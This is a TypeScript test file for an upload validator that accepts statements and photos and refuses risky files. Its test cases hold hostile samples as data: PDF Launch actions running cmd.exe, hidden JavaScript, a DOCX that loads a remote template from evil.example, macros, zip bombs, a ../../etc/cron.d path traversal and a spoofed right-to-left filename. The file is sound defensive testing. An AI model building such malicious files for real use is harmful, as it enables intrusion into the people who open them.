import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { deflateSync } from 'node:zlib';
import { describe, expect, test } from 'vitest';
import { writeCompound, writeZip, type ZipPart } from '../../testing/files/write-office-file.ts';
import { recognizeFile } from './recognize-file.ts';

const limit = 10 * 1024 * 1024;
const unknown = 'it is not a PDF, JPG, PNG, DOC, DOCX, XLS or XLSX file.';

const portal = 'Content-Type: application/pdf\r\nContent-Disposition: attachment; filename="notice.pdf"\r\n\r\n';
const asText =
  'it is plain text. Add an export of your processor’s records as an export, as you downloaded it; save any other text as a PDF and add that.';
const asPage =
  'it is a web page, even where its name ends in .xls. Open it in Excel or a browser, save it as .xlsx or PDF, and add that.';
const asPicture = 'it is a picture of a kind that not everybody can open. Save it as JPG or PNG and add that.';
const asHeic =
  'it is a HEIC photo, which most programs cannot open. Take the photo from this page, take a screenshot of it, or save it as JPG, and add that.';
const asDocument = 'it is a document of another program. Save it as a PDF and add that.';
const email = 'it is an email. Print it to a PDF and add that.';
const savedEmail = Buffer.from(
  'Received: from mx.example.com\r\n\tby mail.example.org; Mon, 11 May 2026 09:00:00 -0700\r\nFrom: Risk <risk@example.com>\r\nSubject: Your account\r\nDate: Mon, 11 May 2026 09:00:00 -0700\r\n\r\nWe hold $48,250.75.\r\n',
);
const macros = 'it has macros, which are programs. Save it without macros, or as a PDF, and add it again.';
const scripted = 'it is encrypted and would run a script when it is opened. Print it to a PDF and add that.';
const launching = 'it would start a program when it is opened. Print it to a PDF and add that.';
const twoKinds = 'it is two kinds of file at once. Print it to a PDF and add that.';

const pdfWith = (object: string, trailer = ''): Buffer =>
  Buffer.from(`%PDF-1.7\n1 0 obj\n${object}\nendobj\ntrailer\n<<${trailer}>>\n%%EOF\n`);
/** The same inside an object stream, as programs write it since PDF 1.5. */
const pdfWithStream = (objects: string, type = 'ObjStm'): Buffer => {
  const packed = deflateSync(objects);
  return Buffer.concat([
    Buffer.from(`%PDF-1.7\n1 0 obj\n<</Type/${type}/Filter/FlateDecode/Length ${packed.length}>>\nstream\n`),
    packed,
    Buffer.from('\nendstream\nendobj\n%%EOF\n'),
  ]);
};

const types = (part: string, kind: string): ZipPart => ({
  name: '[Content_Types].xml',
  content: `<?xml version="1.0"?><Types><Default Extension="xml" ContentType="application/xml"/><Override PartName="/${part}" ContentType="application/${kind}+xml"/></Types>`,
});
const docxTypes = types('word/document.xml', 'vnd.openxmlformats-officedocument.wordprocessingml.document.main');
const docxParts: ZipPart[] = [
  docxTypes,
  { name: '_rels/.rels', content: '<Relationships/>' },
  { name: 'word/document.xml', content: '<w:document/>' },
];
const xlsxParts: ZipPart[] = [
  types('xl/workbook.xml', 'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main'),
  { name: 'xl/workbook.xml', content: '<workbook/>' },
];

function png(): Buffer {
  const chunk = (type: string, data: Buffer): Buffer => {
    const length = Buffer.alloc(4);
    length.writeUInt32BE(data.length);
    return Buffer.concat([length, Buffer.from(type), data, Buffer.alloc(4)]);
  };
  return Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    chunk('IHDR', Buffer.alloc(13, 1)),
    chunk('IDAT', deflateSync(Buffer.alloc(4))),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

const pdf = Buffer.from('%PDF-1.7\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n');
const jpg = Buffer.concat([
  Buffer.from('ffd8ffe000104a46494600010100000100010000', 'hex'),
  Buffer.alloc(64),
  Buffer.from('ffd9', 'hex'),
]);
/** A JPEG with a thumbnail in its header, which ends like an image, and a video after its end, as phones write it. */
const photo = Buffer.concat([
  Buffer.from('ffd8ffe1000affd8ffd900000000ffda000800010100003f', 'hex'),
  Buffer.alloc(64, 7),
  Buffer.from('ffd9', 'hex'),
]);
const heic = Buffer.concat([Buffer.from([0, 0, 0, 24]), Buffer.from('ftypheic\0\0\0\0mif1heic'), Buffer.alloc(64)]);
const exe = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(512)]);
const recognize = (bytes: Buffer, name: string): ReturnType<typeof recognizeFile> =>
  recognizeFile(bytes, name, bytes.length);

describe('accepted files', () => {
  test.each<[string, Buffer, string, string]>([
    ['statement.pdf', pdf, 'application/pdf', 'pdf'],
    ['SCAN.PDF', Buffer.concat([Buffer.from('\ufeff\r\n'), pdf]), 'application/pdf', 'pdf'],
    ['locked.pdf', Buffer.from('%PDF-1.6\ntrailer\n<</Encrypt 5 0 R>>\n%%EOF'), 'application/pdf', 'pdf'],
    ['photo.jpg', jpg, 'image/jpeg', 'jpg'],
    ['photo.JPEG', jpg, 'image/jpeg', 'jpg'],
    ['phone.jpg', Buffer.concat([photo, Buffer.from('ftypmp42')]), 'image/jpeg', 'jpg'],
    ['screen.png', png(), 'image/png', 'png'],
    ['letter.doc', writeCompound('WordDocument', '1Table'), 'application/msword', 'doc'],
    ['ledger.xls', writeCompound('Workbook'), 'application/vnd.ms-excel', 'xls'],
    ['old.xls', writeCompound('Book'), 'application/vnd.ms-excel', 'xls'],
    [
      'letter.docx',
      writeZip(docxParts),
      'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
      'docx',
    ],
    ['ledger.xlsx', writeZip(xlsxParts), 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', 'xlsx'],
    ['año 2026.v2.pdf', pdf, 'application/pdf', 'pdf'],
    ['1000012345', pdf, 'application/pdf', 'pdf'],
    ['photo.jfif', jpg, 'image/jpeg', 'jpg'],
    ['photo.pdf', png(), 'image/png', 'png'],
    ['virus.exe', pdf, 'application/pdf', 'pdf'],
    ['ledger.xls', writeZip(xlsxParts), 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', 'xlsx'],
    ['about-scripts.pdf', pdfWithStream('BT (/S /Launch) Tj ET', 'Page'), 'application/pdf', 'pdf'],
    ['form.pdf', pdfWith('<</S/JavaScript/JS(AFNumber_Format(2))>>'), 'application/pdf', 'pdf'],
    ['link.pdf', pdfWith('<</S/URI/URI(https://bank.example)>>'), 'application/pdf', 'pdf'],
  ])('%s is accepted', async (name, bytes, content_type, extension) =>
    expect(await recognize(bytes, name)).toMatchObject({ ok: true, content_type, extension }),
  );

  test.each([
    ['nothing', '', 0],
    ['a byte order mark and a blank line', '\ufeff\r\n', 5],
    ['the header lines of a portal', portal, portal.length],
    ['as much as readers pass over', `${'x'.repeat(1023)}\n`, 1024],
  ])('a PDF begins at its header, behind %s', async (_, before, begins) =>
    expect(await recognize(Buffer.concat([Buffer.from(before), pdf]), 'a.pdf')).toMatchObject({ ok: true, begins }),
  );

  test('a file may have exactly 10 MB, and not a byte more', async () => {
    const full = Buffer.concat([pdf, Buffer.alloc(limit - pdf.length, 32)]);
    expect((await recognize(full, 'full.pdf')).ok).toBe(true);
    const more = Buffer.concat([full, Buffer.from(' ')]);
    expect(await recognize(more, 'big.pdf')).toEqual({
      ok: false,
      message: '"big.pdf" was not added: it is larger than 10 MB.',
    });
    expect((await recognizeFile(pdf, 'big.pdf', limit + 1)).ok).toBe(false);
  });

  test('a path is judged by its actual content', async () => {
    const folder = await mkdtemp(join(tmpdir(), 'recognize-'));
    const path = join(folder, 'x');
    await writeFile(path, pdf);
    expect((await recognizeFile(path, 'a.pdf', pdf.length)).ok).toBe(true);
    await writeFile(path, Buffer.alloc(limit + 1));
    expect(await recognizeFile(path, 'a.pdf', 5)).toEqual({
      ok: false,
      message: '"a.pdf" was not added: it is larger than 10 MB.',
    });
    await rm(folder, { recursive: true });
  });
});

describe('refused files', () => {
  test.each<[string, Buffer, string]>([
    ['empty.pdf', Buffer.alloc(0), 'the file is empty.'],
    ['statement.exe', exe, unknown],
    ['statement.pdf', exe, unknown],
    ['page.pdf', Buffer.from('<!doctype html><script>alert(1)</script>%PDF-1.7'), asPage],
    ['program.pdf', Buffer.concat([exe, pdf]), unknown],
    ['far.pdf', Buffer.concat([Buffer.alloc(1025, 'x'), pdf]), asText],
    ['portal.pdf', Buffer.concat([Buffer.from(portal), pdf, writeZip(docxParts)]), twoKinds],
    ['portal-launch.pdf', Buffer.concat([Buffer.from(portal), pdfWith('<</S/Launch>>')]), launching],
    ['statement.xls', Buffer.from('<html><head><meta charset="utf-8"></head><body><table>'), asPage],
    ['statement.xls', Buffer.from('<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook>'), asPage],
    ['statement.xls', Buffer.from('Date\tType\tAmount\n03/02/2026\tReserve Hold\t-100.00\n'), asText],
    ['export.csv', Buffer.from('\ufeff"Date","Gross"\r\n"03/02/2026","1,000.00"\r\n'), asText],
    ['wide.txt', Buffer.from('\ufeffDate\tGross\r\n', 'utf16le'), asText],
    ['anim.webp', Buffer.from('RIFF\x1a\0\0\0WEBPVP8 ', 'latin1'), asPicture],
    ['IMG_0042.HEIC', heic, asHeic],
    ['photo.jpg', heic, asHeic],
    ['letter.rtf', Buffer.from('{\\rtf1 Dear merchant}'), asDocument],
    ['drawing.png', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="x"/>'), unknown],
    ['anim.png', Buffer.from('GIF89a\x01\0\x01\0\0\0\0;'), asPicture],
    ['notes.doc', Buffer.from('plain text'), asText],
    ['one.pdf', Buffer.from('%'), unknown],
    ['mail.doc', writeCompound('__properties_version1.0'), email],
    ['notice.eml', savedEmail, email],
    ['notice.pdf', savedEmail, email],
    ['notes.eml', Buffer.from('From: the manager\n\nSubject and date follow.'), asText],
    ['notes.eml', Buffer.from('From the manager\nSubject: none\nDate: none\n\nText'), asText],
    ['setup.xls', writeCompound('\u4840\u3f7f\u4164'), unknown],
    ['broken.doc', writeCompound('WordDocument').subarray(0, 600), unknown],
    ['archive.docx', writeZip([{ name: 'a.txt', content: 'a' }]), unknown],
    [
      'slides.docx',
      writeZip([
        types('ppt/presentation.xml', 'vnd.openxmlformats-officedocument.presentationml.presentation.main'),
        { name: 'ppt/presentation.xml', content: 'x' },
      ]),
      asDocument,
    ],
    [
      'macros.docx',
      writeZip([
        types('word/document.xml', 'vnd.ms-word.document.macroEnabled.main'),
        { name: 'word/document.xml', content: 'x' },
      ]),
      macros,
    ],
    [
      'macros.xlsx',
      writeZip([
        types('xl/workbook.xml', 'vnd.ms-excel.sheet.macroEnabled.main'),
        { name: 'xl/workbook.xml', content: '<workbook/>' },
      ]),
      macros,
    ],
    ['hidden.docx', writeZip([...docxParts, { name: 'word/vbaProject.bin', content: 'x' }]), macros],
    ['old-macros.xlsx', writeZip([...xlsxParts, { name: 'xl/macrosheets/sheet1.xml', content: 'x' }]), macros],
    ['control.docx', writeZip([...docxParts, { name: 'word/activeX/activeX1.bin', content: 'x' }]), macros],
    ['macros.doc', writeCompound('WordDocument', 'Macros', 'VBA'), macros],
    ['macros.xls', writeCompound('Workbook', '_VBA_PROJECT_CUR'), macros],
    [
      'package.docx',
      writeZip([...docxParts, { name: 'word/embeddings/oleObject1.bin', content: 'MZ' }]),
      'it has a file of another program inside. Save it as a PDF and add that.',
    ],
    [
      'template.docx',
      writeZip([
        ...docxParts,
        {
          name: 'word/_rels/settings.xml.rels',
          content:
            '<Relationships><Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/></Relationships>',
        },
      ]),
      'it loads a template from elsewhere when it is opened. Save it as a PDF and add that.',
    ],
    ['locked-script.pdf', pdfWith('<</S/JavaScript/JS 5 0 R>>', '/Encrypt 5 0 R'), scripted],
    ['escaped.pdf', pdfWith('<</S /J#61vaScript /JS 5 0 R>>', '/Encrypt 5 0 R'), scripted],
    ['launch.pdf', pdfWith('<</Type/Action/S/Launch/F(cmd.exe)>>'), launching],
    ['packed.pdf', pdfWithStream('1 0 <</Type/Action/S/Launch/F(cmd.exe)>>'), launching],
    ['both.pdf', Buffer.concat([pdf, writeZip(docxParts)]), twoKinds],
    ['both.jpg', Buffer.concat([jpg, writeZip(docxParts)]), twoKinds],
    ['both.docx', writeZip([{ name: '%PDF-1.7', content: 'x' }, ...docxParts]), twoKinds],
    ['promise.docx', writeZip([docxTypes]), unknown],
    ['cut.docx', writeZip(docxParts).subarray(0, -30), unknown],
    ['comment.docx', Buffer.concat([Buffer.from('PK\x03\x04'), Buffer.alloc(200)]), unknown],
    [
      'cut.png',
      png().subarray(0, -14),
      'the picture is cut off: its end is missing. Save or scan it again and add it again.',
    ],
    [
      'cut.jpg',
      photo.subarray(0, -20),
      'the picture is cut off: its end is missing. Save or scan it again and add it again.',
    ],
    [
      'locked.docx',
      writeCompound('EncryptedPackage', 'EncryptionInfo'),
      'it is protected by a password. Remove the password and add it again.',
    ],
  ])('%s is refused (%#)', async (name, bytes, why) =>
    expect(await recognize(bytes, name)).toEqual({ ok: false, message: `"${name}" was not added: ${why}` }),
  );

  test.each<[string, Buffer]>([
    ['gigabytes declared', writeZip([...docxParts, { name: 'word/media/a.bin', content: 'x', declared: 0xffffffff }])],
    ['a thousandfold', writeZip([...docxParts, { name: 'word/media/a.xml', content: 'a'.repeat(25 * 1024 * 1024) }])],
    ['entries that share bytes', writeZip(docxParts, true)],
    [
      'too many entries',
      writeZip([...docxParts, ...Array.from({ length: 6000 }, (_, index) => ({ name: `p${index}`, content: '' }))]),
    ],
    [
      'two parts of one name',
      writeZip([...docxParts, { name: 'Word/document.xml', content: '<w:document>2</w:document>' }]),
    ],
    ['a path that leads out', writeZip([...docxParts, { name: '../../etc/cron.d/x', content: 'x' }])],
    ['a part larger than it says', writeZip([{ ...docxTypes, declared: 10 }, ...docxParts.slice(1)])],
    [
      'a list of types without end',
      writeZip([{ ...docxTypes, content: docxTypes.content + ' '.repeat(2 * 1024 * 1024) }, ...docxParts.slice(1)]),
    ],
  ])('a zip bomb is refused: %s', async (_, bytes) =>
    expect(await recognize(bytes, 'bomb.docx')).toEqual({
      ok: false,
      message: `"bomb.docx" was not added: ${unknown}`,
    }),
  );

  test('a file that only looks like many streams is checked quickly', async () => {
    const hostile = Buffer.from(`%PDF-1.7\n${'<</S#41>>stream\nendstream'.repeat(400_000)}`.slice(0, limit));
    expect((await recognize(hostile, 'many.pdf')).ok).toBe(true);
  });

  test('a deceptive file name is shown plainly', async () => {
    expect(await recognize(exe, 'invoice\u202efdp.exe\n')).toEqual({
      ok: false,
      message: `"invoicefdp.exe" was not added: ${unknown}`,
    });
    const long = await recognize(exe, `${'x'.repeat(500)}.exe`);
    expect(long.ok ? '' : long.message.length).toBeLessThan(250);
  });

  test('any prefix of a real file gets an answer, never an exception', async () => {
    for (const whole of [pdf, png(), jpg, heic, writeCompound('WordDocument'), writeZip(docxParts)]) {
      for (let length = 1; length <= whole.length; length += 7) await recognize(whole.subarray(0, length), 'cut.pdf');
    }
  });
});
